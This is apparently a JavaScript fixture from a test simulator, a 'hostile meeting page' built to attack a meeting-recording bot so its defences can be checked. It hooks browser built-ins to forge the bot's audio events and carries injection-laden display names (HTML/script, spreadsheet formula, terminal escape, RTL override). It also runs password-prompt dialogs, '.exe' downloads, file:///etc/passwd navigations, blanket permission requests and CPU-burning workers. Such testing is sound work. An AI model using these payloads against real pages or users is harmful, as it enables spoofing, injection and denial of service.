// A hostile meeting page (scenario block "hostile"; README "Hostile pages"). Loaded into a
// platform's imitation client, it turns on the bot once the bot is admitted, from the page's
// own world, while the meeting goes on around it (people keep speaking over WebRTC).
//
// It goes for everything that crosses from a page into the product: the audio tap's channel
// (forged and oversized events, hooks on every built-in the tap might call, the messages of
// a cross-origin frame), names and titles, dialogs, pop-ups, downloads, navigations to other
// schemes, permissions, the CPU, the console, and the bot's QWebChannel. Every attempt and
// whatever it got back is reported to the simulator (README "Control API"), so a test can
// tell what reached the product: hostile_* events say what was tried, tap_secret_caught and
// the popup/download events of the server say what worked.
(function () {
  'use strict';
  // The page's own copies, taken before it replaces the built-ins below.
  const apply = Reflect.apply;
  const realCall = Function.prototype.call;
  const realApply = Function.prototype.apply;
  const realBtoa = window.btoa;
  const realFromCharCode = String.fromCharCode;
  const realMin = Math.min;
  const realToFixed = Number.prototype.toFixed;
  const realAddEventListener = EventTarget.prototype.addEventListener;
  const realDispatch = EventTarget.prototype.dispatchEvent;
  const RealCustomEvent = window.CustomEvent;
  const RealMessageEvent = window.MessageEvent;
  const realPostMessage = window.postMessage;
  const realThen = Promise.prototype.then;
  const realSetInterval = window.setInterval;
  const realSetTimeout = window.setTimeout;
  const dataOf = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data').get;
  const onmessageOf = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  const outputTimestamp = window.AudioContext && AudioContext.prototype.getOutputTimestamp;

  const KB = 1024;
  const MB = KB * KB;
  const ESC = '\x1b';
  const CHUNK = 1600;                       // the tap's 100 ms at 16 kHz
  const FORGED_LOG = 'FORGED-LOG-LINE ' + ESC + '[31m<b>owned</b>' + ESC + '[0m';
  // Display names that try each way a name can do harm where it is shown or saved.
  const NAMES = [
    'Long ' + 'x'.repeat(MB),
    '<img src=x onerror=alert(1)><b>Bold</b> & <script>alert(2)</script>',
    '**Mark** _down_ [link](javascript:alert(1)) `code` | pipe |',
    '00:00:01,000 --> 00:00:02,000 <i>cue</i> {\\an8}',
    '=HYPERLINK("http://evil.example","Click") +1+1 @SUM(A1)',
    'Term ' + ESC + '[31mred' + ESC + '[0m ' + ESC + ']0;title\x07 bell\x07',
    'RTL \u202eexe.txt\u202c \u2066isolate\u2069 zero\u200bwidth',
    'NUL\u0000byte\u0000name',
  ];
  // The display name of a participant who really speaks: it labels transcript lines.
  const SPEAKER_NAME = '<b>Mallory</b> =cmd|\' /C calc\'!A0 \u202eevil\u202c ' + ESC + '[2J\u0000 --> **x**';

  let sim = null;
  let options = {};
  const counts = {};
  const count = (key, n) => { counts[key] = (counts[key] || 0) + (n === undefined ? 1 : n); };
  const reported = new Set();
  function once(type, data) {
    const key = type + JSON.stringify(data || {});
    if (reported.has(key)) return;
    reported.add(key);
    sim.report(type, data);
  }
  const every = (ms, fn) => realSetInterval(() => { if (sim.phase === 'meeting') fn(); }, ms);
  const later = (ms, fn) => realSetTimeout(fn, ms);
  const pageHref = (path, how) => path + '?page=' + encodeURIComponent(sim.config.page_id) + '&how=' + how;

  // --- forged audio: the scenario's forged speech, as the tap's chunks -----------------------

  let forged = new Float32Array(CHUNK);
  let cursor = 0;
  async function loadForged() {
    const response = await fetch(options.forged_speech_url);
    const bytes = await response.arrayBuffer();
    const decoded = await new OfflineAudioContext(1, 16000, 16000).decodeAudioData(bytes);
    const pause = new Float32Array(16000);
    forged = new Float32Array(decoded.length + pause.length);
    forged.set(decoded.getChannelData(0));
  }
  function nextFloats(n) {
    const out = new Float32Array(n);
    for (let i = 0; i < n; i++) out[i] = forged[(cursor + i) % forged.length];
    cursor += n;
    return out;
  }
  function binaryOf(floats) {
    let s = '';
    for (let i = 0; i < floats.length; i++) {
      const v = floats[i] < 0 ? Math.max(-32768, floats[i] * 32768) : realMin(32767, floats[i] * 32767);
      const w = v & 0xffff;
      s += apply(realFromCharCode, String, [w & 0xff]) + apply(realFromCharCode, String, [w >> 8]);
    }
    return s;
  }
  const forgedBase64 = (n) => apply(realBtoa, window, [binaryOf(nextFloats(n))]);
  const forgedChunk = () => 'i16:16000:' + apply(realToFixed, Date.now() / 1000, [3]) + ':' + forgedBase64(CHUNK);

  // --- names and titles --------------------------------------------------------------------

  function names() {
    if (options.rename && sim.people.has(options.rename)) {
      sim.people.get(options.rename).name = SPEAKER_NAME;
      sim.report('speaker_renamed', { id: options.rename, name: SPEAKER_NAME });
    }
    NAMES.forEach((name, i) => sim.people.set('hostile-' + i, { id: 'hostile-' + i, name, joins_at: 0, leaves_at: null }));
    sim.renderRoster();
    sim.report('hostile_names', { names: NAMES.map((n) => n.slice(0, 300)), lengths: NAMES.map((n) => n.length) });
    document.title = 'Meeting ' + ESC + '[2J\u202e' + 'T'.repeat(MB);
    history.replaceState(null, '', location.pathname + location.search + (location.search ? '&' : '?') + 'pad=' + 'p'.repeat(100 * KB));
    // One name comes and goes with every look the bot takes.
    let flicker = 0;
    every(2000, () => {
      const id = 'hostile-flicker';
      if (sim.people.has(id)) sim.people.delete(id);
      else sim.people.set(id, { id, name: 'Flicker ' + (flicker++ % 5), joins_at: 0, leaves_at: null });
      sim.renderRoster();
      count('roster_flickers');
    });
  }

  // --- the audio tap: hooks on every built-in it could call -----------------------------------

  let caughtNames = new Set();
  function caught(how, name) {
    once('tap_secret_caught', { how, name: String(name).slice(0, 80) });
    if (String(name).startsWith('mb-') && !caughtNames.has(name)) {
      caughtNames.add(name);
      // With the event name known, forge the tap's events directly.
      every(100, () => {
        apply(realDispatch, document, [new RealCustomEvent(name, { detail: forgedChunk() })]);
        apply(realDispatch, document, [new RealCustomEvent(name, { detail: 'error:' + FORGED_LOG })]);
        count('forged_with_caught_name', 2);
      });
    }
  }
  function inspect(args) {
    for (let i = 0; i < args.length; i++) {
      const a = args[i];
      if (a instanceof Event && typeof a.type === 'string' && a.type.startsWith('mb-')) caught('an event passed through a hooked built-in', a.type);
    }
  }
  const portHandlers = [];
  function tap() {
    // Function.prototype.call / apply: every `native.call(...)` a script makes comes here.
    Function.prototype.call = function (thisArg, ...args) {
      inspect(args);
      return apply(this, thisArg, args);
    };
    Function.prototype.apply = function (thisArg, args) {
      if (args) inspect(args);
      return apply(this, thisArg, args || []);
    };
    // Encoding a chunk: btoa, String.fromCharCode, Math.min, Number.prototype.toFixed.
    window.btoa = function (binary) {
      if (typeof binary === 'string' && binary.length === 2 * CHUNK) {
        count('tap_btoa_substituted');
        return forgedBase64(CHUNK);
      }
      return apply(realBtoa, window, [binary]);
    };
    String.fromCharCode = function (...codes) {
      if (codes.length >= 1024) {
        count('tap_fromcharcode_substituted');
        return binaryOf(nextFloats(codes.length / 2)).slice(0, codes.length);
      }
      return apply(realFromCharCode, String, codes);
    };
    Math.min = function (...values) {
      if (values.length === 2 && values[0] === 1) {
        count('tap_min_substituted');
        return nextFloats(1)[0];
      }
      return apply(realMin, Math, values);
    };
    Number.prototype.toFixed = function (digits) {
      const value = Number(this);
      if (digits === 3 && value > 1e9 && value < 1e11) {
        count('tap_time_substituted');
        return counts.tap_time_substituted % 2 ? 'Infinity' : String(value + 1e9);
      }
      return apply(realToFixed, this, [digits]);
    };
    if (outputTimestamp) {
      AudioContext.prototype.getOutputTimestamp = function () {
        count('tap_timestamp_substituted');
        return { contextTime: 0, performanceTime: 1e13 };
      };
    }
    // The worklet's messages to the tap: their data, their handler, and fakes of them.
    Object.defineProperty(MessageEvent.prototype, 'data', {
      configurable: true,
      get() {
        const data = apply(dataOf, this, []);
        if (data && data.pcm instanceof Float32Array) {
          count('tap_message_data_substituted');
          return { pcm: nextFloats(data.pcm.length), t0: data.t0 };
        }
        return data;
      },
    });
    Object.defineProperty(MessagePort.prototype, 'onmessage', {
      configurable: true,
      get() { return apply(onmessageOf.get, this, []); },
      set(handler) {
        if (typeof handler === 'function') portHandlers.push([this, handler]);
        apply(onmessageOf.set, this, [handler]);
      },
    });
    EventTarget.prototype.addEventListener = function (type, handler, ...rest) {
      if (this instanceof MessagePort && type === 'message' && typeof handler === 'function') portHandlers.push([this, handler]);
      return apply(realAddEventListener, this, [type, handler, ...rest]);
    };
    every(100, () => {
      for (const [port, handler] of portHandlers) {
        const fake = () => new RealMessageEvent('message', { data: { pcm: nextFloats(CHUNK), t0: 0 } });
        try { apply(handler, port, [fake()]); } catch (err) { /* the tap may refuse it */ }
        apply(realDispatch, port, [fake()]);
        count('tap_port_messages_forged', 2);
      }
    });
    // Promises a script awaits: whatever they resolve to (a signing key, say).
    let inside = false;
    Object.defineProperty(Promise.prototype, 'constructor', {
      configurable: true,
      get() {
        if (!inside) {
          inside = true;
          try {
            apply(realThen, this, [(value) => {
              if (window.CryptoKey && value instanceof CryptoKey) caught('a promise the tap awaited', 'CryptoKey ' + value.algorithm.name);
            }, () => {}]);
          } finally {
            inside = false;
          }
        }
        return Promise;
      },
    });
    once('hostile_hooks_installed', { hooks: ['Function.prototype.call', 'Function.prototype.apply', 'btoa',
      'String.fromCharCode', 'Math.min', 'Number.prototype.toFixed', 'AudioContext.getOutputTimestamp',
      'MessageEvent.data', 'MessagePort.onmessage', 'EventTarget.addEventListener', 'Promise.constructor'] });
  }

  // --- forged events under guessed names, at a high rate, oversized ------------------------

  function events() {
    const big = 'i16:16000::' + 'A'.repeat(MB);
    const hex = () => Array.from(crypto.getRandomValues(new Uint8Array(16)), (b) => (b + 256).toString(16).slice(1)).join('');
    const guesses = ['mb-audio', 'mb-log', 'meeting-buddy-audio', 'meeting-buddy-log', 'audio', 'log', 'chunk', 'message'];
    every(20, () => {
      for (let i = 0; i < 20; i++) {
        const name = i < guesses.length ? guesses[i] : (i % 2 ? 'mb-audio-' : 'mb-log-') + hex();
        const detail = i % 4 === 0 ? big : (i % 2 ? forgedChunk() : 'error:' + FORGED_LOG);
        apply(realDispatch, document, [new RealCustomEvent(name, { detail })]);
        apply(realDispatch, window, [new RealCustomEvent(name, { detail })]);
      }
      apply(realPostMessage, window, ['mb-' + hex().slice(0, 16) + ':x|1|a|' + '0'.repeat(64) + '|' + forgedChunk(), '*']);
      count('guessed_events', 41);
    });
  }

  // --- a cross-origin frame, and what the page makes of the messages it posts -----------------

  function frames() {
    // The frame says when it runs; one that has not within a few seconds (its renderer starved
    // by the rest of this page) is made again.
    let frame = null;
    let ready = false;
    const makeFrame = (attempt) => {
      if (frame) frame.remove();
      frame = document.createElement('iframe');
      frame.src = options.frame_origin + '/__sim/static/hostile/frame.html?page=' + encodeURIComponent(sim.config.page_id);
      frame.style.cssText = 'position:fixed;width:2px;height:2px;bottom:0;right:0;border:0;opacity:0.01';
      frame.setAttribute('aria-hidden', 'true');
      document.body.appendChild(frame);
      if (attempt < 4) later(5000, () => { if (!ready) makeFrame(attempt + 1); });
    };
    makeFrame(1);
    // Posting from a frame of its own makes a message look like a frame's.
    const helper = document.createElement('iframe');
    helper.style.display = 'none';
    document.body.appendChild(helper);
    // (Code of the helper's own: a message's source is the window whose script posts it.)
    const postFromHelper = (data) => helper.contentWindow.Function('d', 'parent.postMessage(d, "*")')(data);
    const sniffed = new Set();
    apply(realAddEventListener, window, ['message', (e) => {
      const data = apply(dataOf, e, []);
      if (!frame || e.source !== frame.contentWindow) return;
      if (data && data.hostileFrame === 'ready') { ready = true; return; }
      if (typeof data !== 'string') return;
      const parts = data.split('|');
      if (parts.length < 5 || !data.startsWith('mb-')) return;
      count('frame_messages_sniffed');
      // The tap's own messages, a few of them (the frame's look-alikes come back this way too).
      if (sniffed.has(data) || sniffed.size >= 5) return;
      sniffed.add(data);
      const prefix = data.slice(0, data.indexOf(':') + 1);
      once('frame_message_sniffed', { prefix_length: prefix.length, type: parts[2].slice(0, 80) });
      // The message's type field: an event name the bridge listens to?
      apply(realDispatch, document, [new RealCustomEvent(parts[2], { detail: 'error:' + FORGED_LOG })]);
      apply(realDispatch, document, [new RealCustomEvent(parts[2], { detail: forgedChunk() })]);
      apply(realPostMessage, window, [data, '*']);                                          // the page itself
      postFromHelper(data);                                                                    // replayed
      postFromHelper(parts.slice(0, 4).join('|') + '|error:' + FORGED_LOG);                 // signature kept
      const renumbered = parts.slice();
      renumbered[1] = String(Number(parts[1]) + 1000);
      postFromHelper(renumbered.slice(0, 4).join('|') + '|' + forgedChunk());               // renumbered
      postFromHelper(prefix + 'x|' + 'y'.repeat(MB));                                       // oversized
      postFromHelper(prefix + 'not signed');                                                  // unsigned
      for (let i = 0; i < 200; i++) postFromHelper(data);                                     // a flood
      frame.contentWindow.postMessage({ relay: data }, '*');                                   // for the frame's own tries
      count('frame_forgeries', 206);
    }]);
  }

  // --- dialogs -----------------------------------------------------------------------------

  function dialogs() {
    window.addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = 'Stay and keep recording?'; count('beforeunload'); });
    every(250, () => {
      for (let i = 0; i < 3; i++) {
        once('dialog_returned', { kind: 'alert', value: String(alert('Your session expired ' + ESC + '[2J')) });
        once('dialog_returned', { kind: 'confirm', value: String(confirm('Allow the meeting to upload your files?')) });
        once('dialog_returned', { kind: 'prompt', value: String(prompt('Enter your password', 'hunter2')) });
      }
      count('dialogs', 9);
    });
    every(2000, () => { window.print(); count('print'); });
  }

  // --- pop-ups, downloads and other schemes: with and without a click ------------------------

  const EXTERNAL = ['msteams:/l/meetup-join/hostile', 'zoommtg://zoom.us/join?confno=1', 'mailto:victim@example.com',
    'ms-settings:privacy', 'tel:+15555550123', 'steam://run/1', 'intent://scan#Intent;scheme=zxing;end'];
  const LOCAL = ['file:///etc/passwd', 'data:text/html,<h1>Owned</h1>', 'javascript:void(document.title="js")'];

  function popups(gesture) {
    const how = gesture ? 'gesture' : 'script';
    for (let i = 0; i < (gesture ? 5 : 1); i++) {
      const opened = window.open(pageHref('/__sim/popup', how + '_open'), '_blank', i % 2 ? 'popup,width=400,height=300' : '');
      once('popup_returned', { how, opened: opened !== null });
    }
    if (gesture) {
      const a = Object.assign(document.createElement('a'), { href: pageHref('/__sim/popup', 'anchor'), target: '_blank' });
      document.body.appendChild(a);
      a.click();
      a.remove();
      for (const url of [...LOCAL, ...EXTERNAL]) window.open(url, '_blank');
      try { window.close(); } catch (err) { /* refused */ }
      once('close_attempted', {});
    }
    count('popups_tried');
  }

  function downloads(gesture) {
    const how = gesture ? 'gesture' : 'script';
    const a = Object.assign(document.createElement('a'), { href: pageHref('/__sim/download', how + '_anchor'), download: 'invoice.exe' });
    document.body.appendChild(a);
    a.click();
    const blob = URL.createObjectURL(new Blob(['MZ hostile'], { type: 'application/octet-stream' }));
    Object.assign(a, { href: blob, download: 'blob-invoice.exe' });
    a.click();
    Object.assign(a, { href: 'data:application/octet-stream;base64,TVpoZWxsbw==', download: 'data-invoice.exe' });
    a.click();
    a.remove();
    if (gesture) {
      const frame = Object.assign(document.createElement('iframe'), { src: pageHref('/__sim/download', 'frame') });
      frame.style.display = 'none';
      document.body.appendChild(frame);
      later(3000, () => frame.remove());
    }
    count('downloads_tried');
  }

  function navigations() {
    const targets = [...LOCAL, ...EXTERNAL];
    targets.forEach((url, i) => later(400 * i, () => {
      sim.report('navigation_attempted', { url, how: 'location' });
      let left = false;
      const onLeave = () => { left = true; sim.report('navigation_escaped', { url }); };
      window.addEventListener('pagehide', onLeave);
      try { window.location.href = url; } catch (err) { /* refused by the browser */ }
      later(1500, () => { window.removeEventListener('pagehide', onLeave); if (!left) count('navigations_stayed'); });
    }));
    later(400 * targets.length, () => {
      for (const url of ['file:///etc/passwd', 'msteams:/l/meetup-join/frame', 'zoommtg://zoom.us/join']) {
        const frame = Object.assign(document.createElement('iframe'), { src: url });
        frame.style.display = 'none';
        document.body.appendChild(frame);
        sim.report('navigation_attempted', { url, how: 'frame' });
      }
    });
  }

  // --- permissions: everything a page can ask for ---------------------------------------------

  function permissions(gesture) {
    const asked = (name, promise) => {
      Promise.resolve(promise).then((v) => once('permission_result', { name, outcome: 'granted', detail: describe(v) }),
        (err) => once('permission_result', { name, outcome: 'refused', detail: String(err && err.name) }));
    };
    const tryAsk = (name, fn) => {
      try { asked(name, fn()); } catch (err) { once('permission_result', { name, outcome: 'unavailable', detail: String(err && err.name) }); }
    };
    const describe = (v) => (v && v.getTracks ? v.getTracks().map((t) => t.kind + ':' + t.label).join(',') : String(v)).slice(0, 120);
    if (gesture) {
      tryAsk('file_input', () => {
        const input = Object.assign(document.createElement('input'), { type: 'file' });
        input.addEventListener('change', () => once('permission_result', { name: 'file_input', outcome: 'granted', detail: String(input.files.length) }));
        input.click();
        return new Promise(() => {});
      });
      tryAsk('color_picker', () => {
        const input = Object.assign(document.createElement('input'), { type: 'color' });
        document.body.appendChild(input);
        input.showPicker();
        return new Promise(() => {});
      });
      tryAsk('screen', () => navigator.mediaDevices.getDisplayMedia({ video: true, audio: true }));
      tryAsk('clipboard_write', () => navigator.clipboard.writeText('=cmd|\' /C calc\'!A0'));
      tryAsk('fullscreen', () => document.documentElement.requestFullscreen());
      tryAsk('pointer_lock', () => document.body.requestPointerLock());
      tryAsk('keyboard_lock', () => navigator.keyboard.lock());
      tryAsk('open_file_picker', () => window.showOpenFilePicker());
      tryAsk('directory_picker', () => window.showDirectoryPicker());
      tryAsk('save_file_picker', () => window.showSaveFilePicker({ suggestedName: 'notes.txt' }));
      tryAsk('webauthn', () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32), timeout: 5000 } }));
      tryAsk('usb', () => navigator.usb.requestDevice({ filters: [] }));
      tryAsk('hid', () => navigator.hid.requestDevice({ filters: [] }));
      tryAsk('serial', () => navigator.serial.requestPort());
      tryAsk('bluetooth', () => navigator.bluetooth.requestDevice({ acceptAllDevices: true }));
    }
    tryAsk('geolocation', () => new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, no)));
    tryAsk('notifications', () => Notification.requestPermission().then((p) => (p === 'granted' ? p : Promise.reject(new Error(p)))));
    tryAsk('camera', () => navigator.mediaDevices.getUserMedia({ video: true }));
    tryAsk('microphone', () => navigator.mediaDevices.getUserMedia({ audio: true }));
    tryAsk('midi', () => navigator.requestMIDIAccess({ sysex: true }));
    tryAsk('persistent_storage', () => navigator.storage.persist().then((p) => (p ? p : Promise.reject(new Error('denied')))));
    tryAsk('clipboard_read', () => navigator.clipboard.readText());
    tryAsk('local_fonts', () => window.queryLocalFonts());
    tryAsk('window_management', () => window.getScreenDetails());
    tryAsk('idle_detection', () => IdleDetector.requestPermission().then((p) => (p === 'granted' ? p : Promise.reject(new Error(p)))));
    tryAsk('wake_lock', () => navigator.wakeLock.request('screen'));
    tryAsk('protocol_handler', () => navigator.registerProtocolHandler('web+meetingbuddy', location.origin + '/?u=%s'));
    if (!gesture) return;
    const auth = Object.assign(document.createElement('iframe'), { src: pageHref('/__sim/auth', 'frame') });
    auth.style.display = 'none';
    document.body.appendChild(auth);
  }

  // --- the CPU, the console, the bot's channel ---------------------------------------------------

  function cpu() {
    const source = 'let n = 0; for (;;) { n = (n * 1103515245 + 12345) | 0; }';
    const url = URL.createObjectURL(new Blob([source], { type: 'text/javascript' }));
    for (let i = 0; i < options.cpu_workers; i++) new Worker(url);
    // The page's own thread too, in bursts (the meeting's timers must still run).
    every(2000, () => {
      const until = performance.now() + 100;
      while (performance.now() < until) { /* spin */ }
      count('cpu_bursts');
    });
    once('cpu_burning', { workers: options.cpu_workers });
  }

  function consoleSpam() {
    const long = 'console ' + ESC + '[2J\u202e' + 'c'.repeat(MB);
    every(100, () => {
      for (let i = 0; i < 10; i++) console.error('FORGED-CONSOLE ' + ESC + '[31m' + i);
      count('console_lines', 10);
    });
    every(2000, () => { console.error(long); count('console_lines'); });
  }

  function channel() {
    const found = [];
    for (const name of ['qt', 'QWebChannel', 'qwebchannel', 'webChannelTransport', 'meetingBuddyBot']) {
      if (name in window && window[name] !== undefined) found.push(name);
    }
    if (window.qt && window.qt.webChannelTransport) found.push('qt.webChannelTransport');
    if (window.chrome && window.chrome.webview) found.push('chrome.webview');
    once('channel_probe', { world: 'main', found });
  }

  // --- start ------------------------------------------------------------------------------------

  const GROUPS = { frames, names, tap, events, dialogs, cpu, console: consoleSpam, channel };
  const CLICKED = { permissions, downloads, popups };
  // A pop-up uses up a click's activation, which a chooser needs too: the bot's clicks take
  // turns (its first two: the admission dialog's OK, the People button).
  const TURNS = [['permissions', 'downloads'], ['popups', 'downloads']];

  function start(meeting) {
    sim = meeting;
    options = sim.config.hostile;
    const attacks = new Set(options.attacks);
    sim.report('hostile_started', { attacks: options.attacks });
    loadForged().catch((err) => sim.report('hostile_error', { message: 'forged speech: ' + err }));
    for (const [name, fn] of Object.entries(GROUPS)) {
      if (!attacks.has(name)) continue;
      try { fn(); } catch (err) { sim.report('hostile_error', { message: name + ': ' + err }); }
    }
    if (attacks.has('navigations')) later(1000, navigations);
    // A click the bot makes is a user gesture: what needs one happens inside it.
    window.addEventListener('click', (e) => {
      if (!e.isTrusted) return;
      count('bot_clicks');
      for (const name of TURNS[(counts.bot_clicks - 1) % TURNS.length]) {
        if (!attacks.has(name)) continue;
        try { CLICKED[name](true); } catch (err) { sim.report('hostile_error', { message: name + ': ' + err }); }
      }
    }, true);
    for (const [name, fn] of Object.entries(CLICKED)) {
      if (attacks.has(name)) {
        try { fn(false); } catch (err) { sim.report('hostile_error', { message: name + ': ' + err }); }
      }
    }
    if (attacks.has('popups')) every(1000, () => popups(false));
    if (attacks.has('downloads')) every(3000, () => downloads(false));
    every(2000, () => sim.report('hostile_counts', { ...counts }));
  }

  window.SimHostile = { start };
})();
